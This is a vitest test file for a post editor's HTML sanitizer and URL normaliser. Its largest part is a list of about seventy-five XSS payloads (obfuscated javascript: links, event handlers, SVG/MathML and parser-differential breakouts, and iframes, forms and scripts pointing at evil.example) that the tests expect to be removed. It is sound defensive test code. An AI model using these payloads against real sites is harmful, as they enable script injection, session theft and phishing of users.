/**
 * Hostile HTML comes out harmless. Each output is parsed again with a real
 * HTML parser (happy-dom) and every element and attribute is checked against
 * what the editor may produce, with the URLs decoded as a browser decodes
 * them, so a trick that fools a string search still fails here.
 */
import { withDOM } from "@lexical/headless/dom";
import { describe, expect, test } from "vitest";
import {
  ALLOWED_IMAGE_PROTOCOLS,
  ALLOWED_LINK_PROTOCOLS,
  normaliseUrl,
} from "~/domain/posts/link-protocols";
import { sanitizePostHtml } from "~/domain/posts/sanitize.server";

const TAGS = new Set(
  "p br hr h1 h2 h3 h4 h5 h6 strong b em i u s del sub sup mark span ul ol li blockquote pre code a img figure figcaption table thead tbody tr th td".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "href title rel target src alt width height loading value start style dir class spellcheck data-language data-highlight-language data-lexical-managed-linebreak colspan rowspan".split(
    " ",
  ),
);

/** Every way the output could still run script, load something or restyle the page. */
function problems(html: string): string[] {
  return withDOM((window) => {
    const found: string[] = [];
    const doc = new window.DOMParser().parseFromString(
      `<!doctype html><html><body>${html}</body></html>`,
      "text/html",
    );
    if (doc.head.children.length > 0) found.push(`head: ${doc.head.innerHTML}`);
    for (const { name } of Array.from(doc.body.attributes)) found.push(`<body ${name}>`);
    // Comments and CDATA are where parser differentials live; the editor writes none.
    const walker = doc.createTreeWalker(doc.body, 128 /* NodeFilter.SHOW_COMMENT */);
    if (walker.nextNode()) found.push("comment");
    for (const el of Array.from(doc.body.querySelectorAll("*"))) {
      const tag = el.tagName.toLowerCase();
      if (!TAGS.has(tag)) found.push(`tag <${tag}>`);
      for (const { name, value } of Array.from(el.attributes)) {
        if (!ATTRIBUTES.has(name)) found.push(`<${tag} ${name}>`);
        if (name === "style" && !/^(white-space: pre-wrap;|text-align: [a-z]+;)$/.test(value)) {
          found.push(`style "${value}"`);
        }
        if (name === "class" && !/^(ik-|language-)[a-z0-9-]+$/.test(value)) {
          found.push(`class "${value}"`);
        }
        if (name === "dir" && !/^(ltr|rtl|auto)$/.test(value)) found.push(`dir "${value}"`);
        if (name === "target" && !/\bnoopener\b/.test(el.getAttribute("rel") ?? "")) {
          found.push("target without rel=noopener");
        }
        if (name === "href" || name === "src") {
          // What a browser would navigate to: control characters and spaces dropped.
          const compact = value
            // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers ignore them in schemes
            .replace(/[\u0000-\u0020\u007f-\u009f]/g, "")
            .replace(/\\/g, "/")
            .toLowerCase();
          const scheme = /^([a-z][a-z0-9+.-]*):/.exec(compact)?.[1];
          const allowed: readonly string[] =
            name === "src" ? ["http", "https"] : ALLOWED_LINK_PROTOCOLS;
          if (scheme && !allowed.includes(scheme)) found.push(`${name} scheme ${scheme}:`);
          if (compact.startsWith("//")) found.push(`${name} protocol-relative`);
        }
      }
    }
    return found;
  });
}

const HOSTILE: Record<string, string> = {
  "script tag": "<p>hi</p><script>alert(1)</script>",
  "script with attributes": '<script src="https://evil.example/x.js"></script><p>t</p>',
  "uppercase script": "<SCRIPT>alert(1)</SCRIPT>",
  "script split by a null": "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "nested script trick": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "script in a comment": "<!--<script>alert(1)</script>--><p>x</p>",
  "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  CDATA: "<![CDATA[<script>alert(1)</script>]]>",
  "onerror on img": '<img src="x" onerror="alert(1)">',
  "onload on body": '<body onload="alert(1)"><p>x</p></body>',
  "onclick mixed case": '<p OnClIcK="alert(1)">click</p>',
  "event handler without quotes": "<p onmouseover=alert(1)>x</p>",
  "event handler after a slash": '<img/src="x"/onerror="alert(1)">',
  "event handler on every allowed tag":
    '<a href="https://x" onfocus="alert(1)" autofocus>a</a><span onmouseenter="x()">s</span><li onclick="y()">l</li>',
  "javascript: link": '<a href="javascript:alert(1)">x</a>',
  "JavaScript: mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
  "javascript: with leading spaces": '<a href="   javascript:alert(1)">x</a>',
  "javascript: with a tab inside": '<a href="java\tscript:alert(1)">x</a>',
  "javascript: with a newline inside": '<a href="java\nscript:alert(1)">x</a>',
  "javascript: with entity-encoded tab": '<a href="java&#x09;script:alert(1)">x</a>',
  "javascript: entity-encoded letters":
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  "javascript: hex entities without semicolons":
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  "javascript: named entity colon": '<a href="javascript&colon;alert(1)">x</a>',
  "javascript: with a null": '<a href="java\u0000script:alert(1)">x</a>',
  "javascript: with control characters before": '<a href="\u0001\u0002javascript:alert(1)">x</a>',
  "vbscript: link": '<a href="vbscript:msgbox(1)">x</a>',
  "data: link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  "data: image": '<img src="data:image/png;base64,iVBORw0KGgo=" alt="px">',
  "data: image in mixed case": '<img src="DaTa:image/svg+xml,<svg onload=alert(1)>">',
  "javascript: image": '<img src="javascript:alert(1)">',
  "protocol-relative link": '<a href="//evil.example/">x</a>',
  "protocol-relative image": '<img src="//evil.example/pixel.gif">',
  "backslash protocol-relative": '<a href="\\\\evil.example">x</a>',
  "file: and other schemes":
    '<a href="file:///etc/passwd">f</a><a href="blob:https://x/1">b</a><a href="filesystem:x">fs</a>',
  "srcset with javascript": '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
  "svg with script": '<svg><script>alert(1)</script><circle onload="alert(1)"/></svg>',
  "svg animate href":
    '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
  "svg foreignObject":
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  "math with xlink": '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>',
  "math mglyph style breakout": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "style element": "<style>body{display:none}</style><p>x</p>",
  "style breakout through text": "<style></style><img src=x onerror=alert(1)>",
  "style attribute expression": '<p style="width: expression(alert(1))">x</p>',
  "style attribute url": '<span style="background:url(javascript:alert(1))">x</span>',
  "style attribute overlay":
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">x</span>',
  "style that only starts allowed": '<span style="white-space: pre-wrap; position: fixed">x</span>',
  "style with an escaped quote":
    '<span style="white-space: pre-wrap;&quot; onmouseover=&quot;alert(1)">x</span>',
  "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
  iframe: '<iframe src="https://evil.example"></iframe>',
  "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  object: '<object data="https://evil.example/x.swf"></object>',
  embed: '<embed src="https://evil.example/x.swf">',
  "applet and frameset": "<applet code=x></applet><frameset><frame src=x></frameset>",
  "form with action":
    '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
  "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "base href": '<base href="https://evil.example/">',
  template: "<template><script>alert(1)</script></template>",
  "noscript parser differential":
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "textarea breakout": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
  "title breakout": "<title><img src=x onerror=alert(1)></title>",
  "unclosed tags": '<p><b><i>never closed <a href="javascript:alert(1)">',
  "malformed attribute quotes": '<img src="x" alt="a"onerror="alert(1)">',
  "attribute without a name": '<p ="x" onclick=alert(1)>x</p>',
  "deep nesting": `${"<div>".repeat(500)}<script>alert(1)</script>${"</div>".repeat(500)}`,
  "broken comment": "<!--><img src=x onerror=alert(1)>-->",
  "tag inside attribute": '<a title="<script>alert(1)</script>" href="https://ok.example">t</a>',
  "class injection":
    '<p class="admin-shell ik-underline">x</p><span class="ik-underline editor-frame">y</span>',
  "id and name clobbering":
    '<img src="https://ok.example/a.png" id="__reactContainer" name="getElementById">',
  "target without rel": '<a href="https://ok.example" target="_top">x</a>',
  "dir injection": '<p dir="ltr onclick=alert(1)">x</p>',
  "svg image (upload-like)": '<img src="https://ok.example/a.svg#<script>">',
  "xmp and plaintext": "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
  "marquee and blink": '<marquee onstart="alert(1)">x</marquee>',
  "details ontoggle": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  "video and audio": '<video src="x" onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  "input autofocus": '<input autofocus onfocus="alert(1)">',
};

describe("hostile HTML comes out harmless", () => {
  for (const [name, html] of Object.entries(HOSTILE)) {
    test(name, () => {
      const out = sanitizePostHtml(html);
      expect(problems(out)).toEqual([]);
      expect(out).not.toMatch(
        /<\s*\/?\s*(script|iframe|object|embed|svg|math|style|form|meta|base|link)\b/i,
      );
      // Cleaning is stable: cleaning the output again changes nothing.
      expect(sanitizePostHtml(out)).toBe(out);
    });
  }
});

describe("what is kept of it", () => {
  test("text around removed tags stays, the code of scripts and styles does not", () => {
    expect(sanitizePostHtml("<p>hi</p><script>alert(1)</script>")).toBe("<p>hi</p>");
    expect(sanitizePostHtml("<style>body{}</style><p>x</p>")).toBe("<p>x</p>");
    expect(sanitizePostHtml("<p>a<iframe>b</iframe>c</p>")).toBe("<p>ac</p>");
  });
  test("a refused link keeps its text without the address; a refused image is dropped", () => {
    expect(sanitizePostHtml('<a href="javascript:alert(1)">x</a>')).toBe(
      '<a rel="noopener noreferrer nofollow">x</a>',
    );
    expect(sanitizePostHtml('<p><img src="data:image/png;base64,AAAA" alt="a">b</p>')).toBe(
      "<p>b</p>",
    );
  });
  test("every allowed link protocol is kept, and links get rel=noopener noreferrer nofollow", () => {
    for (const protocol of ALLOWED_LINK_PROTOCOLS) {
      const out = sanitizePostHtml(`<a href="${protocol}:x@example.com">x</a>`);
      expect(out).toBe(
        `<a href="${protocol}:x@example.com" rel="noopener noreferrer nofollow">x</a>`,
      );
    }
  });
  test("site-relative links and images are kept", () => {
    expect(sanitizePostHtml('<p><img src="/uploads/posts/a.png" alt="a"></p>')).toBe(
      '<p><img src="/uploads/posts/a.png" alt="a"></p>',
    );
    expect(sanitizePostHtml('<a href="/1/news/x">x</a>')).toBe(
      '<a href="/1/news/x" rel="noopener noreferrer nofollow">x</a>',
    );
  });
  test("a style is kept only when it is exactly one the editor writes", () => {
    expect(sanitizePostHtml('<span style="white-space: pre-wrap;">x</span>')).toBe(
      '<span style="white-space: pre-wrap;">x</span>',
    );
    expect(sanitizePostHtml('<span style="white-space: pre-wrap; color: red;">x</span>')).toBe(
      "<span>x</span>",
    );
    expect(sanitizePostHtml('<p style="text-align: center;">x</p>')).toBe(
      '<p style="text-align: center;">x</p>',
    );
    expect(sanitizePostHtml('<span style="text-align: center;">x</span>')).toBe("<span>x</span>");
  });
});

test("the checker itself sees the danger in the samples before cleaning", () => {
  const unnoticed = Object.entries(HOSTILE)
    .filter(([, html]) => problems(html).length === 0)
    .map(([name]) => name);
  // Harmless to this parser, aimed at others or at string filters; cleaned all the same.
  expect(unnoticed).toEqual(["tag inside attribute", "svg image (upload-like)"]);
});

describe("the editor's own URL check (link and image dialogs, automatic links)", () => {
  test("refuses what the server would refuse", () => {
    for (const url of [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      " javascript:alert(1)",
      "java\tscript:alert(1)",
      "java\u0000script:alert(1)",
      "vbscript:x",
      "data:text/html,x",
      "file:///etc/passwd",
      "//evil.example/x",
      "",
      "   ",
    ]) {
      expect(normaliseUrl(url), url).toBeNull();
    }
    expect(normaliseUrl("data:image/png;base64,AAAA", ALLOWED_IMAGE_PROTOCOLS)).toBeNull();
    expect(normaliseUrl("mailto:a@b.c", ALLOWED_IMAGE_PROTOCOLS)).toBeNull();
  });
  test("keeps the allowed protocols and site paths, and completes bare addresses", () => {
    for (const protocol of ALLOWED_LINK_PROTOCOLS) {
      expect(normaliseUrl(`${protocol}:x`)).toBe(`${protocol}:x`);
    }
    expect(normaliseUrl("/uploads/posts/a.png", ALLOWED_IMAGE_PROTOCOLS)).toBe(
      "/uploads/posts/a.png",
    );
    expect(normaliseUrl("#notes")).toBe("#notes");
    expect(normaliseUrl("example.com/page")).toBe("https://example.com/page");
    expect(normaliseUrl("desk@example.com")).toBe("mailto:desk@example.com");
    expect(normaliseUrl("not a url")).toBeNull();
  });
});
